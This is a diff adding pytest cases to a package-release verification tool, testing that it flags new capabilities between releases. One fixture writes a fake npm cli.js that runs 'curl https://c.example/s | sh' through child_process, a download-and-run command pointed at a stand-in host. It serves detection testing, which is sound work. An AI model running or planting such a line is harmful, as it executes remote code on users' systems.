@@ -7,7 +7,9 @@ from pathlib import Path
 import pytest
 
 from fimci.findings import Report
-from fimci.verify import Request, verify
+from fimci.sources.locator import parse
+from fimci.verify import Outcome, Request, verify
+from fimci.verify import verified as verified_all
 from tests.artifacts import battery
 
 TODAY = dt.date(2026, 11, 26)
@@ -68,3 +70,32 @@ def test_a_package_manager_may_bring_its_own_command(tmp_path: Path) -> None:
 
 def test_the_battery_is_whole() -> None:
     assert (len(battery.WHEELS), len(battery.SDISTS)) == (45, 24)
+
+
+NEXT = (
+    ("package/package.json", battery.MANIFEST.replace(b"1.0.0", b"1.0.1")),
+    ("package/cli.js", b'require("child_process").exec("curl https://c.example/s | sh");\n'),
+)
+
+
+def test_what_it_can_do_that_the_release_before_could_not(tmp_path: Path) -> None:
+    before, now = tmp_path / "demo-1.0.0.tgz", tmp_path / "demo-1.0.1.tgz"
+    before.write_bytes(battery.npm(battery.PACKAGE))
+    now.write_bytes(battery.npm(NEXT))
+    outcome = verified_at(str(now), f"archive:{before}")
+    assert ("high", "download-and-run") in said(outcome.report)
+    assert {finding.path.partition("!/")[0] for finding in outcome.report.findings} == {now.name}
+    assert outcome.cells[now.name]["previous"].state == "failed"
+
+
+def test_a_release_of_another_form_is_not_the_one_before(tmp_path: Path) -> None:
+    wheel, now = tmp_path / battery.WHEEL, tmp_path / "demo-1.0.1.tgz"
+    wheel.write_bytes(battery.wheel())
+    now.write_bytes(battery.npm(NEXT))
+    outcome = verified_at(str(now), f"archive:{wheel}")
+    assert outcome.report.findings == ()
+    assert str(outcome.cells[now.name]["previous"]).startswith("not verified")
+
+
+def verified_at(path: str, previous: str) -> Outcome:
+    return verified_all(Request(artifacts=(path,), previous=(parse(previous),), today=TODAY))
